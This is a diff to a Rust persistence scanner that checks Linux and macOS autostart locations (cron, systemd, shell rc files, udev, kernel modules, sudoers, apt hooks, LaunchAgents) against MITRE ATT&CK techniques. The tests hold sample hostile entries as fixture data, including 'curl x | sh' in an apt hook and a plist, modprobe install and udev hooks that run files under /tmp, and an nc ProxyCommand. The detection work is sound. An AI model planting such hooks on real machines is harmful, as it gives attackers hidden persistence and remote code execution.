-        let text = String::from_utf8_lossy(&data).into_owned();
-        let it = c.item("openclaw-prompt-file", "T1546", &p, Some(&data));
-        let bad = text
-            .lines()
-            .find(|l| !text_flags(l).is_empty())
-            .map(str::to_owned);
-        c.push(it, bad.as_deref());
+        script(c, "openclaw-prompt-file", "T1546", p);
     }
 }
 
@@ -716,315 +916,17 @@ fn cron_job(c: &mut Ctx, base: &Item, j: &Value) {
     c.push(it, payload.as_deref());
 }
 
-/// Enumerates every mechanism.
+/// Enumerates every mechanism: each catalogue location read with its
+/// parser and judged, then the deployment's own.
 pub fn run(dep: Option<&Deployment>, root: &Root, window: &Window) -> Report {
-    let mut c = Ctx {
-        root,
-        window,
-        dpkg: dpkg_files(root),
-        items: Vec::new(),
-        unreadable: Vec::new(),
-    };
-    let all = users::users(root);
-    // Scheduled jobs.
-    cron(&mut c, "/etc/crontab", true, false);
-    cron(&mut c, "/etc/cron.d", true, false);
-    cron(&mut c, "/var/spool/cron/crontabs", false, true);
-    for f in c.files(Path::new("/var/spool/cron")) {
-        if f.is_file() {
-            let h = root.host_view(&f).to_string_lossy().into_owned();
-            cron(&mut c, &h, false, true);
-        }
-    }
-    cron(&mut c, "/usr/lib/cron/tabs", false, true);
-    for d in [
-        "/etc/cron.hourly",
-        "/etc/cron.daily",
-        "/etc/cron.weekly",
-        "/etc/cron.monthly",
-    ] {
-        scripts(&mut c, "cron-periodic", "T1053.003", d);
-    }
-    listed(&mut c, "anacron", "T1053.003", "/etc/anacrontab", |l| {
-        let f: Vec<&str> = l.split_whitespace().collect();
-        (f.len() >= 4 && !f[0].contains('=')).then(|| f[3..].join(" "))
-    });
-    for d in ["/var/spool/cron/atjobs", "/var/spool/at"] {
-        scripts(&mut c, "at", "T1053.002", d);
-    }
-    // systemd, system and user, with drop-ins, .wants links and generators.
-    let unit_keys = [
-        "ExecStart",
-        "ExecStartPre",
-        "ExecStartPost",
-        "ExecStop",
-        "ExecStopPost",
-        "ExecReload",
-        "ExecCondition",
-    ];
-    let mut unit_dirs: Vec<String> = [
-        "/etc/systemd/system",
-        "/run/systemd/system",
-        "/run/systemd/transient",
-        "/usr/local/lib/systemd/system",
-        "/usr/lib/systemd/system",
-        "/etc/systemd/user",
-        "/usr/lib/systemd/user",
-        "/usr/local/lib/systemd/user",
-    ]
-    .iter()
-    .map(|s| s.to_string())
-    .collect();
-    for u in &all {
-        for rel in [".config/systemd/user", ".local/share/systemd/user"] {
-            unit_dirs.push(format!("{}/{rel}", u.home.trim_end_matches('/')));
-        }
-    }
-    for d in &unit_dirs {
-        keyed(
-            &mut c,
-            "systemd-service",
-            "T1543.002",
-            d,
-            &[".service", ".socket", ".path", ".mount"],
-            &unit_keys,
-        );
-        keyed(
-            &mut c,
-            "systemd-timer",
-            "T1053.006",
-            d,
-            &[".timer"],
-            &["OnCalendar", "OnBootSec", "OnUnitActiveSec", "Unit"],
-        );
-    }
-    for d in [
-        "/etc/systemd/system-generators",
-        "/etc/systemd/user-generators",
-        "/usr/local/lib/systemd/system-generators",
-        "/usr/local/lib/systemd/user-generators",
-        "/usr/lib/systemd/system-generators",
-        "/usr/lib/systemd/user-generators",
-        "/run/systemd/generator",
-        "/run/systemd/generator.early",
-        "/run/systemd/generator.late",
-    ] {
-        scripts(&mut c, "systemd-generator", "T1543.002", d);
-    }
-    for f in c.files(Path::new("/var/lib/systemd/linger")) {
-        let mut it = c.item("systemd-linger", "T1543.002", &f, None);
-        it.user = f.file_name().map(|n| n.to_string_lossy().into_owned());
-        c.push(it, None);
-    }
-    // Login: XDG autostart and shell rc files of every user.
-    let mut autostart = vec![
-        "/etc/xdg/autostart".to_string(),
-        "/usr/share/autostart".to_string(),
-    ];
-    for u in &all {
-        autostart.push(format!(
-            "{}/.config/autostart",
-            u.home.trim_end_matches('/')
-        ));
-    }
-    for d in &autostart {
-        keyed(
-            &mut c,
-            "xdg-autostart",
-            "T1547.013",
-            d,
-            &[".desktop"],
-            &["Exec"],
-        );
-    }
-    for p in [
-        "/etc/profile",
-        "/etc/profile.d",
-        "/etc/bash.bashrc",
-        "/etc/bashrc",
-        "/etc/environment",
-        "/etc/zsh",
-        "/etc/zshrc",
-        "/etc/zprofile",
-        "/etc/zshenv",
-    ] {
-        scripts(&mut c, "shell-rc", "T1546.004", p);
-    }
-    for u in &all {
-        if u.home.is_empty() || u.home == "/" {
-            continue;
-        }
-        for rel in crate::evidence::scope::USER_SHELL_RC {
-            let h = format!("{}/{rel}", u.home.trim_end_matches('/'));
-            scripts(&mut c, "shell-rc", "T1546.004", &h);
-        }
-    }
-    ssh(&mut c, &all);
-    // Boot and loading.
-    listed(
-        &mut c,
-        "ld-preload",
-        "T1574.006",
-        "/etc/ld.so.preload",
-        |l| Some(l.to_string()),
-    );
-    scripts(&mut c, "ld-so-conf", "T1574.006", "/etc/ld.so.conf.d");
-    for p in [
-        "/etc/rc.local",
-        "/etc/rc.d/rc.local",
-        "/etc/init.d",
-        "/etc/update-motd.d",
-        "/etc/inittab",
-    ] {
-        scripts(&mut c, "rc-init", "T1037.004", p);
-    }
-    for d in [
-        "/etc/udev/rules.d",
-        "/usr/lib/udev/rules.d",
-        "/run/udev/rules.d",
-    ] {
-        listed(&mut c, "udev-rule", "T1546.017", d, |l| {
-            l.split(',').map(str::trim).find_map(|kv| {
-                kv.strip_prefix("RUN+=")
-                    .or_else(|| kv.strip_prefix("RUN="))
-                    .map(|v| v.trim_matches('"').to_string())
-            })
-        });
-    }
-    listed(&mut c, "kernel-module", "T1547.006", "/etc/modules", |l| {
-        Some(l.to_string())
-    });
-    listed(
-        &mut c,
-        "kernel-module",
-        "T1547.006",
-        "/etc/modules-load.d",
-        |l| Some(l.to_string()),
-    );
-    listed(
-        &mut c,
-        "kernel-module",
-        "T1547.006",
-        "/etc/modprobe.d",
-        |l| l.strip_prefix("install ").map(str::to_owned),
-    );
-    // Privilege and accounts.
-    listed(&mut c, "pam-exec", "T1556.003", "/etc/pam.d", |l| {
-        l.contains("pam_exec.so").then(|| l.to_string())
-    });
-    for p in ["/etc/sudoers", "/etc/sudoers.d"] {
-        for f in c.files(Path::new(p)) {
-            let Some(data) = c.read(&f) else { continue };
-            let base = c.item("sudoers", "T1548.003", &f, Some(&data));
-            for l in lines(&data).filter(|l| {
-                !l.starts_with("Defaults") && !l.starts_with("@include") && l.contains('=')
-            }) {
-                let mut it = base.clone();
-                if l.contains("NOPASSWD") {
-                    it.flags.push("nopasswd".into());
-                }
-                it.detail = Some(crate::sanitize::escape(l));
-                c.items.push(it);
-            }
-        }
-    }
-    let passwd = root.join("/etc/passwd");
-    for u in all.iter().filter(|u| u.uid == 0 && u.name != "root") {
-        let mut it = c.item("uid0-account", "T1136.001", &passwd, None);
-        it.user = Some(u.name.clone());
-        it.flags.push("uid0".into());
-        it.detail = Some(format!(
-            "{} has uid 0 (home {}, shell {})",
-            u.name, u.home, u.shell
-        ));
-        c.items.push(it);
-    }
-    // Package manager hooks.
-    listed(
-        &mut c,
-        "apt-hook",
-        "T1546.016",
-        "/etc/apt/apt.conf.d",
-        |l| {
-            (l.contains("Pre-Invoke")
-                || l.contains("Post-Invoke")
-                || l.contains("Post-Invoke-Success"))
-            .then(|| {
-                l.split_once('"')
-                    .map_or(l, |(_, r)| r.trim_end_matches([';', '}', '"', ' ']))
-                    .to_string()
-            })
-        },
-    );
-    for d in ["/etc/dnf/plugins", "/etc/yum/pluginconf.d"] {
-        scripts(&mut c, "dnf-plugin", "T1546.016", d);
-    }
-    // macOS.
-    let mut launch = vec![
-        "/Library/LaunchAgents".to_string(),
-        "/Library/LaunchDaemons".to_string(),
-    ];
-    for u in &all {
-        launch.push(format!(
-            "{}/Library/LaunchAgents",
-            u.home.trim_end_matches('/')
-        ));
-    }
-    for d in &launch {
-        for f in c.files(Path::new(d)) {
-            let Some(data) = c.read(&f) else { continue };
-            let text = String::from_utf8_lossy(&data).into_owned();
-            let mech = if d.contains("Daemons") {
-                "launch-daemon"
-            } else {
-                "launch-agent"
-            };
-            let it = c.item(
-                mech,
-                if mech == "launch-daemon" {
-                    "T1543.004"
-                } else {
-                    "T1543.001"
-                },
-                &f,
-                Some(&data),
-            );
-            c.push(it, Some(&plist_program(&text)));
-        }
-    }
-    for d in [
-        "/etc/periodic/daily",
-        "/etc/periodic/weekly",
-        "/etc/periodic/monthly",
-        "/etc/emond.d/rules",
-    ] {
-        scripts(&mut c, "macos-periodic", "T1053.003", d);
-    }
-    // Login items: binary stores, listed (with their hashes) for the analyst.
-    let mut login = vec!["/private/var/db/com.apple.backgroundtaskmanagement".to_string()];
-    for u in &all {
-        let h = u.home.trim_end_matches('/');
-        login.push(format!(
-            "{h}/Library/Application Support/com.apple.backgroundtaskmanagementagent"
-        ));
-        login.push(format!(
-            "{h}/Library/Preferences/com.apple.loginitems.plist"
-        ));
-    }
-    for d in &login {
-        scripts(&mut c, "macos-login-item", "T1547.015", d);
+    let mut c = Ctx::new(root, window);
+    for loc in catalogue::locations(root, &c.users) {
+        gather(&mut c, &loc);
     }
     if let Some(dep) = dep {
         openclaw(&mut c, dep);
     }
-    c.items.retain(|i| !i.path.is_empty());
-    let flagged = c.items.iter().filter(|i| !i.flags.is_empty()).count();
-    Report {
-        items: c.items,
-        flagged,
-        unreadable: c.unreadable,
-        baseline: None,
-    }
+    c.finish()
 }
 
 /// The program a launchd plist runs (`Program` or `ProgramArguments`).
@@ -1118,9 +1020,50 @@ mod tests {
         assert_eq!(plist_program(p), "/bin/sh -c curl x|sh");
     }
 
+    #[test]
+    fn runs_picks_the_program() {
+        assert_eq!(
+            pick(
+                Runs::Module,
+                "install usb-storage /tmp/.x; /sbin/modprobe --ignore-install usb-storage"
+            ),
+            Some("usb-storage /tmp/.x; /sbin/modprobe --ignore-install usb-storage".into())
+        );
+        assert_eq!(
+            pick(Runs::Module, "diamorphine"),
+            Some("diamorphine".into())
+        );
+        assert_eq!(pick(Runs::Module, "blacklist pcspkr"), None);
+        let ssh = Runs::Keyword(&["ProxyCommand"]);
+        assert_eq!(
+            pick(ssh, "ProxyCommand=ssh -W %h:%p bastion"),
+            Some("ssh -W %h:%p bastion".into())
+        );
+        assert_eq!(pick(ssh, "proxycommand  nc %h %p"), Some("nc %h %p".into()));
+        assert_eq!(pick(ssh, "ProxyJump bastion"), None);
+        assert_eq!(
+            pick(Runs::UdevRun, r#"ACTION=="add", RUN+="/tmp/.u""#),
+            Some("/tmp/.u".into())
+        );
+        assert_eq!(
+            pick(
+                Runs::AptInvoke,
+                r#"APT::Update::Pre-Invoke {"curl x | sh";};"#
+            ),
+            Some("curl x | sh".into())
+        );
+        assert_eq!(
+            pick(Runs::Anacron, "1 5 cron.daily run-parts /etc/cron.daily"),
+            Some("run-parts /etc/cron.daily".into())
+        );
+    }
+
     proptest! {
         #[test]
         fn parsers_never_panic(s in "\\PC{0,200}") {
+            for runs in [Runs::WholeLine, Runs::Module, Runs::Containing("x"), Runs::Keyword(&["K"]), Runs::Anacron, Runs::UdevRun, Runs::AptInvoke] {
+                let _ = pick(runs, &s);
+            }
             let _ = parse_cron_line(&s, true);
             let _ = text_flags(&s);
             let _ = plist_program(&s);
